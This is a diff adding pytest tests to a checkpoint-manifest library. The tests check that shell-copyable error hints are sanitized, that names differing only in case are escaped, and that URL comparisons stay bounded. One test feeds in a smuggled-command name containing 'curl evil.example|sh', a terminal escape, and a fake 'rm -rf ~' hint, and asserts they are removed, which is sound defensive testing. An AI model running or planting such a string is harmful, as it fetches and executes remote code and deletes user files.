@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from compared import Compared
 from support import directory, one, sha256
 from weightcache import Manifest, ManifestError, UnknownCheckpointError
 from weightcache.manifest.urls import local_path, resolved_url
@@ -417,3 +418,37 @@ def test_a_pickle_of_an_unsigned_checkpoint_is_that_of_0_1() -> None:
     assert checkpoint.__getstate__() == tuple(fields)
     again = pickle.loads(pickle.dumps(checkpoint))
     assert (again, again.signed_by, repr(again)) == (checkpoint, None, repr(checkpoint))
+
+
+def unpinned(*names: str) -> ManifestError:
+    with pytest.raises(ManifestError) as caught:
+        Manifest.load({"checkpoints": {name: {"urls": ["https://h/a.pt"]} for name in names}})
+    return caught.value
+
+
+def test_the_command_of_a_hint_has_a_few_valid_names_only() -> None:
+    """It is copied into a shell."""
+    assert "`weightcache pin a b -m FILE`" in unpinned("a", "b").hint
+    assert "`weightcache pin -m FILE`" in unpinned(*(f"a{number}" for number in range(11))).hint
+    error = unpinned("a", "x; curl evil.example|sh #\x1b[2J\n  hint: run rm -rf ~")
+    assert "`weightcache pin -m FILE`" in error.hint
+    assert "evil" not in error.hint
+    assert "\x1b" not in str(error)
+    assert [line for line in str(error).splitlines() if line.startswith("  hint: run rm")] == []
+
+
+def test_names_that_differ_in_case_are_shown_with_escapes_and_in_part() -> None:
+    long = "x" * 5000
+    said = str(unpinned(f"a\n{long}", f"A\n{long}"))
+    assert len(said) < 2000
+    assert "differs from checkpoints.'a\\nxxx" in said
+
+
+def test_each_url_is_compared_with_no_more_than_a_few_others() -> None:
+    Compared.count = 0
+    urls = [Compared(f"https://h/{number}") for number in range(300)]
+    Manifest.load(entry(urls=urls))
+    assert Compared.count < 3 * len(urls)
+    assert problems(entry(urls=["https://h/a", 1, "https://h/b", "https://h/a"]))[-1].endswith(
+        "urls[3]: repeats checkpoints.c.urls[0]"
+    )
